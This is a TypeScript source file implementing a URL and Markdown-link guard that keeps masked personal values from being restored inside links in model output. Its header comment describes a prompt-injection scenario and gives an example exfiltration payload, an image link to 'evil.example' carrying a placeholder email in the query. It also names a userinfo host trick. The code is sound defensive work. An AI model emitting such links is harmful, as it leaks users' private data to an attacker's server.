/**
 * Follows a text unit by unit and tells whether the position is inside a URL or a Markdown link target.
 *
 * There nothing is restored: a prompt injection could make the model write `![x](https://evil.example/?q=EMAIL_1)`,
 * and a restored value would leave with the image request. The same rule decides on the way in which stretch of text
 * is masked whole, so that what was masked can always be put back.
 *
 * A guarded run begins behind `//` (either slash may be a backslash, as browsers read it), behind `www.` at the start
 * of a word, and inside `](…)`; it ends at white space, `<`, `>`, a backtick, at a `"` that is followed by
 * punctuation of JSON or prose, and at the bracket that closes the link target. A placeholder at the very start of a
 * link target, alone or behind `mailto:`, decides the host itself and stays restorable.
 */
export interface UrlGuard {
  /** True if a placeholder that starts at the current position must not be restored. */
  readonly blocked: boolean
  /** True if a guarded run is open, restorable or not. */
  readonly inside: boolean
  /** Moves over one UTF-16 unit. */
  advance(unit: number): void
  /** Moves over a value that was put in place of a placeholder. */
  advanceOver(value: string): void
}

const SLASH = 0x2f
const BACKSLASH = 0x5c
const HOST_END = new Set([...'/\\?#:'].map((c) => c.charCodeAt(0)))
/** What may stand behind a `"` that closes a string which held a URL. */
const AFTER_QUOTE = new Set([...',}])>:;'].map((c) => c.charCodeAt(0)))
const MAX_HOST = 253
const WWW = 'www.'
const MAILTO = 'mailto:'

/** `allowedHosts`: exact names or `*.example.com`, lower case; inside their URLs restoring is on. */
export function createUrlGuard(allowedHosts: readonly string[] = []): UrlGuard {
  return new Guard(allowedHosts)
}

class Guard implements UrlGuard {
  readonly #allowedHosts: readonly string[]
  /** Inside `//…` or `www.…`. */
  #url = false
  /** Inside `](…)`; depth of further brackets. */
  #target = false
  #depth = 0
  /** How much of the link target has been read, as far as it is `mailto:` so far; -1 once it is anything else. */
  #targetStart = 0
  #previous = 0
  #quotePending = false
  /** Letters of `www.` matched since the last word start; -1 when the word started otherwise. */
  #www = 0
  #host = ''
  #hostDone = false
  #hostAllowed = false

  constructor(allowedHosts: readonly string[]) {
    this.#allowedHosts = allowedHosts
  }

  get inside(): boolean {
    return this.#url || this.#target
  }

  get blocked(): boolean {
    if (this.#url) return !(this.#hostDone && this.#hostAllowed)
    if (!this.#target) return false
    return this.#targetStart !== 0 && this.#targetStart !== MAILTO.length
  }

  advance(unit: number): void {
    if (this.#quotePending) {
      this.#quotePending = false
      if (AFTER_QUOTE.has(unit)) this.#reset()
    }
    if (endsRun(unit)) {
      this.#reset()
    } else if (unit === 0x22 && this.#url && !this.#target) {
      this.#quotePending = true
    } else if (unit === 0x28 && this.#previous === 0x5d && !this.#target) {
      this.#openTarget()
    } else {
      this.#advanceInside(unit)
    }
    this.#previous = unit
  }

  advanceOver(value: string): void {
    for (let i = 0; i < value.length; i++) this.advance(value.charCodeAt(i))
  }

  #advanceInside(unit: number): void {
    if (this.#target && !this.#advanceTarget(unit)) return
    if (this.#url) {
      this.#advanceHost(unit)
      return
    }
    if (isSlash(unit) && isSlash(this.#previous)) this.#openUrl('')
    else this.#advanceWww(unit)
  }

  /** False if the bracket closed the target. */
  #advanceTarget(unit: number): boolean {
    if (unit === 0x28) this.#depth++
    else if (unit === 0x29) {
      if (this.#depth === 0) {
        this.#reset()
        return false
      }
      this.#depth--
    }
    const expected = MAILTO.charCodeAt(this.#targetStart)
    this.#targetStart =
      this.#targetStart >= 0 && (unit | 0x20) === (expected | 0x20) ? this.#targetStart + 1 : -1
    return true
  }

  #advanceHost(unit: number): void {
    if (this.#hostDone || this.#allowedHosts.length === 0) return
    // Everything before an @ is not the host (`https://good.example@evil.example/`).
    if (unit === 0x40) this.#host = ''
    else if (HOST_END.has(unit)) {
      // A colon may end the host or stand inside `user:password@`; only a port's digits keep it a host.
      if (unit === 0x3a) this.#host += ':'
      else {
        this.#hostDone = true
        this.#hostAllowed = this.#isAllowed(this.#host)
      }
    } else if (this.#host.length <= MAX_HOST) this.#host += String.fromCharCode(unit)
  }

  #isAllowed(host: string): boolean {
    const name = host.toLowerCase().replace(/:\d{1,5}$/, '')
    return this.#allowedHosts.some((allowed) =>
      allowed.startsWith('*.') ? name.endsWith(allowed.slice(1)) : name === allowed,
    )
  }

  #advanceWww(unit: number): void {
    if (this.#www >= 0 && (unit | 0x20) === (WWW.charCodeAt(this.#www) | 0x20)) {
      this.#www++
      if (this.#www === WWW.length) this.#openUrl(WWW)
      return
    }
    this.#www = isWord(unit) ? -1 : 0
  }

  #openTarget(): void {
    this.#reset()
    this.#target = true
  }

  #openUrl(host: string): void {
    this.#url = true
    this.#host = host
    this.#hostDone = false
    this.#hostAllowed = false
  }

  #reset(): void {
    this.#url = false
    this.#target = false
    this.#depth = 0
    this.#targetStart = 0
    this.#quotePending = false
    this.#www = 0
  }
}

const isSlash = (unit: number): boolean => unit === SLASH || unit === BACKSLASH

const isWord = (unit: number): boolean =>
  (unit >= 0x30 && unit <= 0x39) || (unit >= 0x41 && unit <= 0x5a) || (unit >= 0x61 && unit <= 0x7a)

export function endsRun(unit: number): boolean {
  return (
    unit <= 0x20 ||
    unit === 0x3c ||
    unit === 0x3e ||
    unit === 0x60 ||
    unit === 0x85 ||
    unit === 0xa0 ||
    unit === 0x3000 ||
    (unit >= 0x2000 && unit <= 0x200a) ||
    unit === 0x2028 ||
    unit === 0x2029
  )
}
